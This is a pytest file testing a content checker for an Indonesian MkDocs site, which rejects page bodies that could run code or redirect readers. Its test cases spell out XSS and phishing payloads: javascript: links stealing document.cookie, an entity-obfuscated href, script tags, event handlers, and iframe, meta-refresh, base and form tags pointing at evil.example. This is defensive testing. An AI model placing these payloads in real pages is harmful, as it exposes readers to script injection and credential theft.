"""Page bodies: `cegah check` refuses what could run, call out or send a reader elsewhere
(check_bodies.py), names the line the editor typed, and leaves text shown as code alone."""

from __future__ import annotations

import datetime as dt

import pytest
from cegah.commands.check import run_checks
from cegah.project import Project
from PIL import Image

from tests.helpers import edit, make_mini_site

ARTICLE = "docs/id/tanda-tanda.md"
TODAY = dt.date(2026, 11, 24)
# the real site's Markdown extensions (mkdocs.yml), so fences and code spans work as they do there
SITE_EXTENSIONS = (
    "  - md_in_html\n  - tables\n  - toc:\n      permalink: false\n  - pymdownx.details\n"
    "  - pymdownx.superfences\n"
)

RUNS = (
    "menjalankan kode di browser pembaca, bukan membuka halaman. Perbaiki: tautkan ke halaman "
    "situs (misalnya kontak.md) atau ke alamat https://."
)
PLAIN_MARKDOWN = (
    "Perbaiki: hapus tag itu; tulis isi halaman dengan Markdown biasa (judul, daftar, tautan "
    "[teks](alamat))."
)
OUTSIDE_IMAGE = (
    "diambil dari situs lain; situs itu akan tahu siapa yang membaca halaman ini, dan situs kita "
    "memblokirnya. Perbaiki: simpan gambarnya (jika boleh dipakai) di folder halaman, misalnya "
    "docs/id/poster.png, lalu tulis ![Poster di balai desa](poster.png)."
)


def _tag(tag: str, why: str) -> str:
    return f"  tag HTML <{tag}> tidak boleh ada di isi halaman: tag ini {why}. {PLAIN_MARKDOWN}"


# (name, what replaces "Teks uji." on line 14 of the page, the exact first two lines)
CASES = [
    (
        "javascript link",
        "[klik](javascript:alert(1))",
        ["GALAT / ERROR: docs/id/tanda-tanda.md:14", f"  tautan 'javascript:alert(1)' {RUNS}"],
    ),
    (
        "data image",
        "![Poster](data:image/png;base64,iVBORw0KGgo=)",
        [
            "GALAT / ERROR: docs/id/tanda-tanda.md:14",
            "  gambar 'data:image/png;base64,iVBORw0KGgo=' memakai data:, isi yang ditulis langsung "
            "di halaman dan bisa menyembunyikan kode. Perbaiki: simpan gambar atau berkasnya di "
            "folder halaman (misalnya docs/id/poster.png) lalu tulis ![Poster di balai desa](poster.png).",
        ],
    ),
    (
        "plain http link",
        "Lihat [situs dinas](http://dinas.example.go.id/lowongan).",
        [
            "GALAT / ERROR: docs/id/tanda-tanda.md:14",
            "  tautan 'http://dinas.example.go.id/lowongan' memakai http:// tanpa enkripsi; orang "
            "lain di jaringan yang sama bisa melihat atau mengubah apa yang dibuka pembaca. Perbaiki: "
            "tulis https:// (periksa dulu bahwa alamat itu terbuka dengan https://).",
        ],
    ),
    (
        "image from another host",
        "![Poster di balai desa](https://img.example.com/poster.png)",
        [
            "GALAT / ERROR: docs/id/tanda-tanda.md:14",
            f"  gambar 'https://img.example.com/poster.png' {OUTSIDE_IMAGE}",
        ],
    ),
    (
        "reference-style javascript link",
        "Baca [di sini][info].\n\n[info]: JavaScript:alert(document.cookie)",
        [
            "GALAT / ERROR: docs/id/tanda-tanda.md:16",
            f"  tautan 'JavaScript:alert(document.cookie)' {RUNS}",
        ],
    ),
    (
        "javascript autolink",
        "Klik <javascript:alert(1)>",
        ["GALAT / ERROR: docs/id/tanda-tanda.md:14", f"  tautan 'javascript:alert(1)' {RUNS}"],
    ),
    (
        "raw html link with entities",
        'Teks.\n\n<a href="jav&#x09;ascript:alert(1)">klik</a>',
        ["GALAT / ERROR: docs/id/tanda-tanda.md:16", f"  tautan 'jav ascript:alert(1)' {RUNS}"],
    ),
    (
        "script",
        "<script>alert(1)</script>",
        [
            "GALAT / ERROR: docs/id/tanda-tanda.md:14",
            _tag("script", "menjalankan kode di browser pembaca"),
        ],
    ),
    (
        "iframe",
        '<iframe src="https://evil.example/"></iframe>',
        [
            "GALAT / ERROR: docs/id/tanda-tanda.md:14",
            _tag("iframe", "memuat isi dari situs lain ke dalam halaman"),
        ],
    ),
    (
        "meta refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/phish">',
        [
            "GALAT / ERROR: docs/id/tanda-tanda.md:14",
            _tag("meta", "bisa mengirim pembaca ke situs lain tanpa mereka mengeklik"),
        ],
    ),
    (
        "base",
        '<base href="https://evil.example/">',
        [
            "GALAT / ERROR: docs/id/tanda-tanda.md:14",
            _tag("base", "mengubah tujuan semua tautan di halaman"),
        ],
    ),
    (
        "form",
        '<form action="https://evil.example/"><input name="nomor"></form>',
        [
            "GALAT / ERROR: docs/id/tanda-tanda.md:14",
            _tag("form", "bisa mengirim isian pembaca ke tempat lain"),
        ],
    ),
    (
        "onclick attribute",
        '<p onclick="alert(1)">Klik di sini</p>',
        [
            "GALAT / ERROR: docs/id/tanda-tanda.md:14",
            "  atribut onclick= menjalankan kode di browser pembaca saat ia mengeklik atau membuka "
            "halaman. Perbaiki: hapus atribut itu; halaman situs ini tidak memuat kode.",
        ],
    ),
    (
        "onload on a stray body tag",
        'Teks.\n\n<body onload="alert(1)">',
        [
            "GALAT / ERROR: docs/id/tanda-tanda.md:16",
            "  atribut onload= menjalankan kode di browser pembaca saat ia mengeklik atau membuka "
            "halaman. Perbaiki: hapus atribut itu; halaman situs ini tidak memuat kode.",
        ],
    ),
]


@pytest.fixture
def mini(tmp_path, monkeypatch):
    site = make_mini_site(tmp_path / "mini")
    edit(site / "mkdocs.yml", "  - md_in_html\n", SITE_EXTENSIONS)
    monkeypatch.chdir(site)
    return site


def _check(site, capsys) -> tuple[int, str]:
    code = run_checks(Project(site), TODAY)
    output = capsys.readouterr().err
    assert "Traceback" not in output
    return code, output


def test_mini_site_with_the_site_extensions_is_clean(mini, capsys):
    code, output = _check(mini, capsys)
    assert code == 0 and "0 galat" in output, output


@pytest.mark.parametrize("name,payload,expected", CASES, ids=[c[0] for c in CASES])
def test_check_refuses_in_page_bodies(mini, capsys, name, payload, expected):
    edit(mini / ARTICLE, "Teks uji.", payload)
    code, output = _check(mini, capsys)
    lines = output.splitlines()
    assert code == 1, output
    assert expected[0] in lines, output
    start = lines.index(expected[0])
    assert lines[start : start + 2] == expected, output
    assert output.count("GALAT / ERROR:") == 1, output


SHOWN_AS_CODE = [c for c in CASES if "\n" not in c[1]]


@pytest.mark.parametrize("name,payload,expected", SHOWN_AS_CODE, ids=[c[0] for c in SHOWN_AS_CODE])
def test_payload_in_a_fenced_block_is_not_reported(mini, capsys, name, payload, expected):
    edit(mini / ARTICLE, "Teks uji.", f"Contoh yang berbahaya:\n\n```html\n{payload}\n```")
    code, output = _check(mini, capsys)
    assert code == 0, output


@pytest.mark.parametrize("name,payload,expected", SHOWN_AS_CODE, ids=[c[0] for c in SHOWN_AS_CODE])
def test_payload_in_inline_code_is_not_reported(mini, capsys, name, payload, expected):
    edit(mini / ARTICLE, "Teks uji.", f"Jangan pernah menulis `` {payload} `` di halaman.")
    code, output = _check(mini, capsys)
    assert code == 0, output


def test_the_line_is_the_live_one_not_the_example_in_code(mini, capsys):
    edit(
        mini / ARTICLE,
        "Teks uji.",
        "Contoh: `<script>x</script>`.\n\n```\n<script>y</script>\n```\n\n<script>z</script>",
    )
    code, output = _check(mini, capsys)
    assert code == 1
    assert "GALAT / ERROR: docs/id/tanda-tanda.md:20" in output.splitlines(), output


def test_each_finding_gets_its_own_line(mini, capsys):
    edit(mini / ARTICLE, "Teks uji.", "[a](javascript:x)\n\n[b](javascript:x)")
    code, output = _check(mini, capsys)
    places = [line for line in output.splitlines() if line.startswith("GALAT")]
    assert places == [
        "GALAT / ERROR: docs/id/tanda-tanda.md:14",
        "GALAT / ERROR: docs/id/tanda-tanda.md:16",
    ], output


def test_links_may_leave_the_site_over_https(mini, capsys):
    Image.new("RGB", (2, 2), "white").save(mini / "docs/id/poster.png")
    edit(
        mini / ARTICLE,
        "Teks uji.",
        "Lihat [BP2MI](https://bp2mi.go.id/) atau <https://www.kemlu.go.id/>, "
        "[surel](mailto:info@example.org) dan ![Poster](poster.png).",
    )
    code, output = _check(mini, capsys)
    assert code == 0, output


def test_without_fences_in_mkdocs_yml_backticks_do_not_hide_html(tmp_path, monkeypatch, capsys):
    """The check renders with the site's own extensions: where MkDocs would publish the tag,
    the check reports it."""
    site = make_mini_site(tmp_path / "mini")  # admonition, attr_list, md_in_html: no fences
    monkeypatch.chdir(site)
    edit(site / ARTICLE, "Teks uji.", "```\n\n<script>alert(1)</script>\n\n```")
    code, output = _check(site, capsys)
    assert code == 1 and "tag HTML <script>" in output, output


WEBSITE = "website: https://example.org"


@pytest.mark.parametrize(
    "new,place,words",
    [
        ('website: "https://example.org\\n"', "30 (contacts[1].website)", "alamat web"),
        ('website: "https://example.org/\\n"', "30 (contacts[1].website)", "alamat web"),
        (WEBSITE + '\n    email: "pengaduan@example.org\\n"', "31 (contacts[1].email)", "alamat email"),
    ],
)
def test_address_with_a_trailing_newline_is_refused(mini, capsys, new, place, words):
    edit(mini / "docs/data/contacts.yml", WEBSITE, new)
    code, output = _check(mini, capsys)
    assert code == 1, output
    assert f"GALAT / ERROR: docs/data/contacts.yml:{place}" in output.splitlines(), output
    assert f"bukan {words} yang valid" in output
